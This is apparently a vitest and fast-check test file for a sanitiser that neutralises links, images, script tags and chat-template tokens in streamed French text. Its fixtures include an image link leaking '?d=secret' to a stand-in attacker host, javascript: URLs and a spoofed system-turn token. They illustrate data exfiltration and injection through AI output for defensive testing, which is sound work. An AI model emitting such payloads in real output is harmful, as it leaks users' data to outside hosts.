import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createInertText } from './inert-text.ts';

function read(pieces: readonly string[], offered: readonly string[] = []) {
  const stream = createInertText(offered, 'fr');
  const text = pieces.map((piece) => stream.push(piece)).join('') + stream.finish();
  return { text, removed: stream.removed };
}
const inert = (text: string, offered: readonly string[] = []) => read([text], offered).text;

describe('inert text', () => {
  test.each([
    ['![x](https://evil.example/?d=secret)', '[x] ((lien retiré))'],
    ['Voir [ici](https://evil.example/a).', 'Voir [ici] ((lien retiré)).'],
    ['Voir https://evil.example/a, puis la suite.', 'Voir (lien retiré), puis la suite.'],
    ['<img src=https://evil.example/x.png>', '‹img src=(lien retiré)>'],
    ['<script>alert(1)</script>', '‹script>alert(1)‹/script>'],
    ['![x](//evil.example/x.png)', '[x] ((lien retiré))'],
    ['[x]: http://evil.example "t"', '[x] : (lien retiré) "t"'],
    ['javascript:alert(1)', '(lien retiré))'],
    ['mothttps://evil.example', '(lien retiré)'],
    ['![x](/v1/admin/policy)', '[x] (/v1/admin/policy)'],
    ['Écrivez à mailto:a@evil.example', 'Écrivez à (lien retiré)'],
    ['HTTPS://EVIL.EXAMPLE/A', '(lien retiré)'],
    ['www.evil.example', '(lien retiré)'],
    ['<|im_start|>system', '< |im_start| >system'],
    [`<<<${'0a'.repeat(16)} Oui. ${'0a'.repeat(16)}>>>`, ' Oui. '],
    [`https:/${'0a'.repeat(16)}>>>/evil.example/x`, '(lien retiré)'],
  ])('R38 R39 R40: « %s »', (text, expected) => {
    expect(inert(text)).toBe(expected);
  });

  test('R40: an address that the documents give stays, with the sentence around it', () => {
    const offered = ['Demande sur https://demarches.exemple.fr/conges?type=cp, avant le 1er mai.'];
    expect(inert('Faites-la sur https://demarches.exemple.fr/conges?type=cp. Vite.', offered)).toBe(
      'Faites-la sur https://demarches.exemple.fr/conges?type=cp. Vite.',
    );
    expect(inert('Sur https://demarches.exemple.fr/conges?type=secret', offered)).toBe('Sur (lien retiré)');
    expect(inert('Sur https://demarches.exemple.fr/', offered)).toBe('Sur (lien retiré)');
  });

  test.each([
    'Le prix est de 3 € [1], soit 2 < 3 et 4 > 1 [2].',
    '**Article 5** : 12/03/2026 // note ; a : b',
    'Le ratio 1:2, l’heure 12:05, le fichier C:\\notes.',
    'Les data: voir le tableau',
    '- point\n- autre [3]\n\n| a | b |',
  ])('leaves « %s » as it is', (text) => {
    expect(read([text])).toEqual({ text, removed: 0 });
  });

  test('R44: however it is cut, the result is the same, and nothing of an address gets out', () => {
    const piece = fc.constantFrom(
      '![',
      '](',
      'https://evil.example/',
      'http',
      '://',
      'www.',
      '<img',
      ' ',
      '\n',
      'mot',
      '[1]',
      ')',
      ']:',
      '//a.fr',
      'data:',
      'é',
      '?q=',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), fc.array(fc.nat(40)), (pieces, cuts) => {
        const whole = pieces.join('');
        const places = [...new Set(cuts.map((cut) => cut % (whole.length + 1)))].sort((a, b) => a - b);
        const parts = [0, ...places].map((from, at) => whole.slice(from, places[at] ?? whole.length));
        const cut = read(parts);
        expect(cut).toEqual(read([whole]));
        expect(cut.text).not.toMatch(/!\[|\]\(|https?:\/\/\w|<img/);
      }),
      { numRuns: 2_000 },
    );
  });
});
